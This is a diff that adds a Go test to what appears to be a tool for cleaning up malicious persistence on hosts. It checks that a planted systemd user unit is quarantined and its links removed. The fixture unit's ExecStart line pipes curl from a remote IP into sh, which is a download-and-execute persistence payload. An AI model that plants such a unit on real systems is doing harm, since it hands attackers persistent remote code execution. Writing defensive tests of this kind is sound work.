@@ -598,3 +598,34 @@ func TestApplyRefusesFileReplacedWhileCopying(t *testing.T) {
 		})
 	}
 }
+
+// A unit linked into the global user unit directory from elsewhere: its
+// links there go, and every user manager reloads (not the system one).
+func TestLinkedGlobalUserUnit(t *testing.T) {
+	dir := build(t, hosttest.Debian12().With(
+		hosttest.Entry{Path: "/opt/agent/agent.service", Data: "[Service]\nExecStart=/bin/sh -c 'curl -fsSL http://203.0.113.7/a | sh'\n"},
+		hosttest.Entry{Path: "/etc/systemd/user/agent.service", Link: "/opt/agent/agent.service"},
+		hosttest.Entry{Path: "/etc/systemd/user/default.target.wants/agent.service", Link: "/opt/agent/agent.service"},
+	))
+	treatAsLive(t, dir, nil)
+	_, plan := findPlan(t, dir, PlanOptions{})
+	got := map[string]Op{}
+	for _, c := range plan.Changes {
+		got[c.Path] = c.Op
+	}
+	want := map[string]Op{
+		"/opt/agent/agent.service":                             OpQuarantine,
+		"/etc/systemd/user/agent.service":                      OpUnlink,
+		"/etc/systemd/user/default.target.wants/agent.service": OpUnlink,
+	}
+	if diff := cmp.Diff(want, got); diff != "" {
+		t.Errorf("plan (-want +got):\n%s", diff)
+	}
+	var reloads []string
+	for _, r := range plan.Reloads {
+		reloads = append(reloads, strings.Join(r.Command, " "))
+	}
+	if diff := cmp.Diff([]string{"systemctl kill --kill-whom=main --signal=SIGHUP user@*.service"}, reloads); diff != "" {
+		t.Errorf("reloads (-want +got):\n%s", diff)
+	}
+}
